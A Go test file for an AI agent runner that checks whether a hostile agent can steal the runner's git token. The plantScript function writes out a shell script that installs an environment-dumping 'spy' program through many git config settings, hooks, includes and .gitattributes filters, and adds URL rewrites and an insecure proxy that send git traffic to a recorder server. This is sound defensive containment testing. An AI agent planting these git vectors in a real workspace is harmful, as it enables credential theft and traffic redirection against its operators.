package runner

import (
	"context"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aimi-tools/swarm/acpmsg"
	"github.com/aimi-tools/swarm/tasks"
)

// recorder is a plain http server that keeps every request's headers: the
// place a planted URL rewrite or proxy would send the runner's git.
type recorder struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string
}

func newRecorder(t *testing.T) *recorder {
	rec := &recorder{}
	rec.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.mu.Lock()
		rec.seen = append(rec.seen, fmt.Sprintf("%s %s %v", r.Method, r.URL, r.Header))
		rec.mu.Unlock()
		http.Error(w, "nothing here", http.StatusNotFound)
	}))
	t.Cleanup(rec.Close)
	return rec
}

func (rec *recorder) requests() string {
	rec.mu.Lock()
	defer rec.mu.Unlock()
	return strings.Join(rec.seen, "\n")
}

// plantScript is what a hostile agent writes: a spy program that records
// its arguments and environment, named by every git setting and attribute
// that makes git run a program, in the workspace's .git/config (directly
// and through include and includeIf), in $HOME/.gitconfig, and in
// .gitattributes; plus URL rewrites and a proxy pointing at the recorder.
func plantScript(spyDir, home, recorderURL, repoURL, redirect string) string {
	spy := filepath.Join(spyDir, "spy")
	settings := []string{
		"core.fsmonitor " + spy,
		"core.hooksPath " + filepath.Join(spyDir, "hooks"),
		"core.sshCommand " + spy,
		"core.askPass " + spy,
		"core.editor " + spy,
		"core.pager " + spy,
		"credential.helper " + spy,
		"gpg.program " + spy,
		"commit.gpgSign true",
		"filter.spy.clean " + spy,
		"filter.spy.smudge " + spy,
		"filter.spy.required true",
		"merge.spy.driver " + spy,
		"diff.external " + spy,
		"remote.origin.uploadpack " + spy,
		"remote.origin.receivepack " + spy,
		"alias.push !" + spy,
		"alias.add !" + spy,
		"sequence.editor " + spy,
	}
	switch redirect {
	case "rewrite":
		settings = append(settings,
			"url."+recorderURL+"/.insteadOf "+repoURL,
			"url."+recorderURL+"/.pushInsteadOf http://",
			"url."+recorderURL+"/.insteadOf https://")
	case "proxy":
		settings = append(settings, "http.proxy "+recorderURL, "http.sslVerify false")
	}
	var b strings.Builder
	// In a story's worktree, .git is a file; the config is the common one.
	fmt.Fprintf(&b, "set -e\necho \"$AIMI_STORY_ID\" > \"$AIMI_STORY_ID.txt\"\nmkdir %s/planted 2>/dev/null || exit 0\n", spyDir)
	fmt.Fprintf(&b, "cfg=$(git rev-parse --git-common-dir)/config\nmkdir -p %s/hooks\n", spyDir)
	// The spy passes its input through, so that as a filter it leaves files
	// intact and the run goes on to commit and push.
	fmt.Fprintf(&b, "printf '#!/bin/sh\\n{ echo \"ARGS: $*\"; env; } > %s/ran-$(basename \"$0\")-$$\\ncat\\n' > %s\nchmod +x %s\n", spyDir, spy, spy)
	for _, h := range []string{"pre-commit", "post-commit", "pre-push", "reference-transaction", "post-checkout", "fsmonitor-watchman"} {
		fmt.Fprintf(&b, "ln -sf %s %s/hooks/%s\n", spy, spyDir, h)
	}
	inc := filepath.Join(spyDir, "included.gitconfig")
	for _, kv := range settings {
		k, v, _ := strings.Cut(kv, " ")
		fmt.Fprintf(&b, "git config --file \"$cfg\" --add %q %q\n", k, v)
		fmt.Fprintf(&b, "git config --file %s --add %q %q\n", filepath.Join(home, ".gitconfig"), k, v)
		fmt.Fprintf(&b, "git config --file %s --add %q %q\n", inc, k, v)
	}
	fmt.Fprintf(&b, "git config --file \"$cfg\" include.path %s\n", inc)
	fmt.Fprintf(&b, "git config --file \"$cfg\" includeIf.gitdir:/.path %s\n", inc)
	b.WriteString("printf '* filter=spy merge=spy diff=spy\\n' > .gitattributes\n")
	return b.String()
}

func TestPlantedGitConfigNeverSeesTheToken(t *testing.T) {
	const token = "tok-PLANTED-VECTORS-0123456789"
	basic := base64.StdEncoding.EncodeToString([]byte(DefaultGitUsername + ":" + token))
	cases := []struct {
		name     string
		redirect string
		isolated bool
	}{
		{"programs named by config, includes and attributes run without the token", "", false},
		{"the same with each story in its own worktree", "", true},
		{"URL rewrites never carry the token elsewhere", "rewrite", false},
		{"a proxy never carries the token elsewhere", "proxy", false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := oneStory(t)
			if tc.isolated {
				f = twoRoots(t)
			}
			s := newScenario(t, f, token)
			spyDir, home := t.TempDir(), t.TempDir()
			rec := newRecorder(t)
			script := filepath.Join(t.TempDir(), "plant.sh")
			if err := os.WriteFile(script, []byte(plantScript(spyDir, home, rec.URL, s.srv.URL, tc.redirect)), 0o755); err != nil {
				t.Fatal(err)
			}
			s.cfg.Agent = AgentExec
			s.cfg.AgentCommand = "sh " + script
			// GIT_* in the runner's environment would reach git too.
			s.cfg.Env = append(s.cfg.Env, "HOME="+home, "GIT_ASKPASS="+filepath.Join(spyDir, "spy"),
				"GIT_SSH_COMMAND="+filepath.Join(spyDir, "spy"), "GIT_EXTERNAL_DIFF="+filepath.Join(spyDir, "spy"))
			_ = time.Second
			_, msgs := runScenario(t, context.Background(), s, s.request(t))
			c := completionOf(t, msgs)

			ran, _ := filepath.Glob(filepath.Join(spyDir, "ran-*"))
			for _, p := range ran {
				data, _ := os.ReadFile(p)
				if strings.Contains(string(data), token) || strings.Contains(string(data), basic) {
					t.Errorf("the token reached a planted program (%s):\n%s", filepath.Base(p), data)
				}
			}
			t.Logf("planted programs that ran (without the token): %d", len(ran))
			if got := rec.requests(); strings.Contains(got, token) || strings.Contains(got, basic) {
				t.Errorf("the token left for another URL:\n%s", got)
			}
			if tc.redirect == "" {
				if c.Status != acpmsg.CompletionCompleted {
					t.Fatalf("completion %+v", c)
				}
				for id, st := range finalStatuses(t, s) {
					if st != tasks.Completed {
						t.Errorf("%s is %s on the pushed branch", id, st)
					}
				}
				return
			}
			// The work did not reach the repository: the run says so.
			if c.Status != acpmsg.CompletionFailed || !strings.Contains(strings.Join(c.Errors, "\n"), "push") {
				t.Fatalf("completion %+v, want failed with %s", c, "push")
			}
		})
	}
}
